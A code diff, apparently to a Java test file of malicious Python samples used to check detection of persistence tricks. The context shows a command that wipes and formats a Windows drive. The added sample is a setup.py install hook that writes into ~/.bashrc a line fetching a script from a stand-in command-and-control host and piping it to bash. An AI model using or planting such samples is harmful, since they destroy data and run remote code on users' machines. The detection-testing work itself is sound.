@@ -125,6 +125,19 @@ final class PythonStaying {
             """
             import subprocess
             subprocess.call('del /f /s /q C:\\\\*.* & format c: /y', shell=True)
+            """),
+        Sample.setup(
+            "a shell profile fetches and runs",
+            """
+            import os
+            from setuptools import setup
+            from setuptools.command.install import install
+            class I(install):
+                def run(self):
+                    with open(os.path.expanduser('~/.bashrc'), 'a') as f:
+                        f.write('\\n(curl -s https://c2.example/r | bash) &>/dev/null &\\n')
+                    install.run(self)
+            setup(name='x', version='1', cmdclass={'install': I})
             """));
   }
 }
